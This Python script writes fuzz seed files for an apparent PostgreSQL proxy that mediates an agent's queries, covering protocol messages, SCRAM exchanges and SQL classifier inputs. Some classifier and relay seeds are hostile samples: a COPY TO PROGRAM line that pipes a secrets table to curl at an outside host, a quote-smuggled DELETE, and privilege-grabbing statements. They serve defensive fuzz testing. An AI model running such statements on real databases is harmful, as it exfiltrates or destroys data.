#!/usr/bin/env python3
"""Writes the seed corpora of the pg_* fuzz targets (fuzz/corpus/pg_*/)."""
import struct, os, base64
root = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'corpus')
def w(target, name, data):
    d = os.path.join(root, target); os.makedirs(d, exist_ok=True)
    open(os.path.join(d, name), 'wb').write(data)
def untyped(body): return struct.pack('>i', len(body)+4) + body
def typed(tag, body): return tag + struct.pack('>i', len(body)+4) + body
def cstr(s): return s.encode() + b'\0'

# pg_startup
def startup(params, ver=196608):
    body = struct.pack('>i', ver) + b''.join(cstr(k)+cstr(v) for k,v in params) + b'\0'
    return untyped(body)
ssl = untyped(struct.pack('>i', 80877103))
gss = untyped(struct.pack('>i', 80877104))
w('pg_startup', 'startup', startup([('user','agent'),('database','app'),('application_name','psql')]))
w('pg_startup', 'ssl-then-startup', ssl + startup([('user','agent'),('database','app'),('client_encoding','UTF8')]))
w('pg_startup', 'gss-ssl-startup-options', gss + ssl + startup([('user','agent'),('database','app'),
    ('options','-c search_path=public --statement_timeout=5s -c role=admin'),('replication','database'),('_pq_.x','1')]))
w('pg_startup', 'cancel', untyped(struct.pack('>iii', 80877102, 12345, -987654321)))
w('pg_startup', 'ssl-only', ssl)
w('pg_startup', 'protocol-3.2', startup([('user','a')], ver=196610))

# the agent's messages (used by the pg_relay seeds below)
def q(s): return typed(b'Q', cstr(s))
def parse(name, sql, oids=()): return typed(b'P', cstr(name)+cstr(sql)+struct.pack('>h', len(oids))+b''.join(struct.pack('>I',o) for o in oids))
def bind(portal, stmt, fmts, params, rfmts):
    b = cstr(portal)+cstr(stmt)+struct.pack('>h',len(fmts))+b''.join(struct.pack('>h',f) for f in fmts)
    b += struct.pack('>h',len(params))
    for p in params:
        b += struct.pack('>i',-1) if p is None else struct.pack('>i',len(p))+p
    b += struct.pack('>h',len(rfmts))+b''.join(struct.pack('>h',f) for f in rfmts)
    return typed(b'B', b)
def describe(k, n): return typed(b'D', k+cstr(n))
def execute(p, n=0): return typed(b'E', cstr(p)+struct.pack('>i', n))
sync = typed(b'S', b''); flush = typed(b'H', b''); term = typed(b'X', b'')
fe_query = q('SELECT id, name FROM users WHERE id = 1')
fe_multi = q("BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; COMMIT")
fe_pipeline = (parse('s1', 'SELECT * FROM t WHERE id = $1', [23]) + bind('p1','s1',[1],[b'\x00\x00\x00\x07'],[0,1])
    + describe(b'P','p1') + execute('p1', 100) + sync)
fe_unnamed = (parse('', 'DELETE FROM t WHERE id = $1') + bind('','',[],[b'5'],[]) + execute('') + sync
    + parse('', 'INSERT INTO t VALUES ($1, $2)') + bind('','',[0],[b'1', None],[]) + execute('') + sync
    + typed(b'C', b'S'+cstr('s1')) + sync + term)
fe_copy = (q('COPY t FROM STDIN') + typed(b'd', b'1\tone\n2\ttwo\n') + typed(b'd', b'3\tthree\n') + typed(b'c', b'') + typed(b'f', cstr('abort')))
fe_fcall = (typed(b'F', struct.pack('>Ihhih', 1598, 0, 0, 0, 0)) + flush + sync)

# pg_backend
def rowdesc(cols):
    b = struct.pack('>h', len(cols))
    for name, fmt in cols:
        b += cstr(name) + struct.pack('>ihihih', 16384, 1, 23, 4, -1, fmt)
    return typed(b'T', b)
def datarow(vals):
    b = struct.pack('>h', len(vals))
    for v in vals:
        b += struct.pack('>i', -1) if v is None else struct.pack('>i', len(v)) + v
    return typed(b'D', b)
def cc(tag): return typed(b'C', cstr(tag))
def err(sev, code, msg, tag=b'E'):
    return typed(tag, b'S'+cstr(sev)+b'V'+cstr(sev)+b'C'+cstr(code)+b'M'+cstr(msg)+b'Fpostgres.c\0L1234\0\0')
def ready(s=b'I'): return typed(b'Z', s)
def ps(k, v): return typed(b'S', cstr(k)+cstr(v))
w('pg_backend', 'select', rowdesc([('id',0),('name',0),('blob',1)]) + datarow([b'1', b'alice', b'\xde\xad']) + datarow([b'2', None, b'']) + cc('SELECT 2') + ready())
w('pg_backend', 'error', err('ERROR', '42501', 'permission denied for table t') + ready(b'E'))
w('pg_backend', 'extended', typed(b'1', b'') + typed(b'2', b'') + rowdesc([('n',1)]) + datarow([b'\x00\x00\x00\x01']) + typed(b's', b'') + cc('UPDATE 3') + typed(b'3', b'') + ready(b'T'))
w('pg_backend', 'login', typed(b'R', struct.pack('>i', 10) + cstr('SCRAM-SHA-256') + b'\0') + typed(b'R', struct.pack('>i', 0))
    + ps('client_encoding','UTF8') + ps('standard_conforming_strings','on') + ps('server_version','16.2')
    + typed(b'K', struct.pack('>ii', 4242, 1234567)) + ready())
w('pg_backend', 'notices-copy', err('NOTICE','00000','table does not exist, skipping', b'N') + typed(b'A', struct.pack('>i', 77)+cstr('chan')+cstr('payload'))
    + typed(b'H', b'\0\0\x02\0\0\0\0') + typed(b'd', b'1\tone\n') + typed(b'c', b'') + cc('COPY 1') + typed(b'I', b'') + ready())
w('pg_backend', 'fatal-encoding', ps('client_encoding','SJIS') + ps('standard_conforming_strings','off') + err('FATAL','57P01','terminating connection due to administrator command') + typed(b'R', struct.pack('>i',5)+b'salt'))

# pg_scram: [split][client-first][client-final], r=@ stands for the server nonce
def scram(first, fin):
    return bytes([len(first)]) + first + fin
proof = base64.b64encode(b'\x11'*32)
w('pg_scram', 'exchange', scram(b'n,,n=,r=rOprNGfwEbeRWgbNEkqO%hvYDpWUa2RaTCAfuxFIlj)hNlF$k0', b'c=biws,r=@,p=' + proof))
w('pg_scram', 'exchange-user', scram(b'y,,n=agent,r=fyko+d2lbbFgONRv9qkxdawL', b'c=eSws,r=@,p=' + proof))
w('pg_scram', 'first-only', scram(b'n,,n=,r=abcdefghijklmnopqrstuvwx', b''))
w('pg_scram', 'channel-binding', scram(b'p=tls-server-end-point,,n=,r=abc', b'c=cD10bHMtc2VydmVyLWVuZC1wb2ludCws,r=@,p=' + proof))
w('pg_scram', 'extensions', scram(b'n,,n=,r=abc,ext=1', b'c=biws,r=@,x=y,p=' + proof))

# pg_classifier
for name, sql in [
    ('select', "SELECT u.id, u.name FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100 ORDER BY 1 LIMIT 10"),
    ('do-block', "DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident('t'); END $$ LANGUAGE plpgsql"),
    ('cte-delete', "WITH gone AS (DELETE FROM sessions WHERE expires < now() RETURNING *) SELECT count(*) FROM gone"),
    ('copy-program', "COPY (SELECT * FROM secrets) TO PROGRAM 'curl -d @- https://example.com'"),
    ('dollar-quoting', "SELECT $fn$ it's; a -- trap $fn$, $$x$$; CREATE FUNCTION f() RETURNS int AS $body$ SELECT 1 $body$ LANGUAGE sql"),
    ('multi', "BEGIN; SET search_path = public; UPDATE t SET a = E'\\\\x' WHERE b = 'it''s'; /* c */ COMMIT; VACUUM (ANALYZE, VERBOSE) t"),
    ('grant-select-into', "GRANT ALL ON ALL TABLES IN SCHEMA public TO agent; SELECT * INTO backup FROM t FOR UPDATE; SELECT pg_terminate_backend(42)"),
    ('explain-analyze', "EXPLAIN (ANALYZE) DELETE FROM t; CREATE OR REPLACE VIEW v AS SELECT 1; \"Quoted\"\"Ident\"; SELECT 'é'"),
]:
    w('pg_classifier', name, sql.encode())

# pg_relay: [policy seed][flags] then chunks: header h (h%8: 0-2 agent, 3-5 target, 6 pause of
# h//8 turns, 7 kill) and, for data, a big-endian u16 length.
def agent(b): return bytes([0]) + struct.pack('>H', len(b)) + b
def target(b): return bytes([3]) + struct.pack('>H', len(b)) + b
def pause(n=4): return bytes([6 + 8*n])
kill = bytes([7])
def relay(seed, flags, *chunks): return bytes([seed, flags]) + b''.join(chunks)
select_answer = rowdesc([('id',0),('name',0)]) + datarow([b'1', b'alice']) + cc('SELECT 1') + ready()
ext_answer = typed(b'1', b'') + typed(b'2', b'') + rowdesc([('n',0)]) + datarow([b'1']) + cc('SELECT 1') + ready()
w('pg_relay', 'query-allowed', relay(0, 0, agent(fe_query), pause(), target(select_answer), agent(term)))
w('pg_relay', 'multi-query-judged', relay(5, 0, agent(fe_multi), pause(), target(cc('BEGIN') + cc('UPDATE 1') + cc('COMMIT') + ready()), agent(fe_query), pause(), target(select_answer)))
w('pg_relay', 'pipeline', relay(0, 0, agent(fe_pipeline), pause(), target(ext_answer)))
w('pg_relay', 'pipelines-denied-held', relay(3, 0, agent(fe_unnamed), pause(8), target(ext_answer + err('ERROR', '42P05', 'prepared statement exists') + ready()), pause(8), agent(fe_pipeline), target(ext_answer)))
w('pg_relay', 'overlap-late-acks', relay(0, 3, agent(fe_pipeline + fe_pipeline + fe_query), pause(2), target(ext_answer), pause(2), target(ext_answer + select_answer)))
w('pg_relay', 'copy-in', relay(0, 0, agent(fe_copy[:24]), target(typed(b'G', b'\0\0\x02\0\0\0\0')), agent(fe_copy[24:]), target(cc('COPY 3') + ready())))
w('pg_relay', 'function-call', relay(9, 0, agent(fe_fcall), pause(), target(typed(b'V', struct.pack('>i', 1) + b't') + ready())))
w('pg_relay', 'kill-in-hold', relay(7, 2, agent(parse('', 'DELETE FROM t') + bind('', '', [], [], []) + execute('') + sync), kill, agent(fe_query)))
w('pg_relay', 'lexing-settings', relay(0, 0, agent(q("SET standard_conforming_strings = off")), target(ps('standard_conforming_strings', 'off') + cc('SET') + ready()),
    agent(q("SELECT 'x\\'' ; DELETE FROM accounts; -- '")), pause(), target(select_answer)))
w('pg_relay', 'hostile-target', relay(2, 0, agent(fe_query), target(err('FATAL', '57P01', 'bye') + typed(b'K', struct.pack('>ii', 1, 2)) + b'Z\xff\xff\xff\xff')))
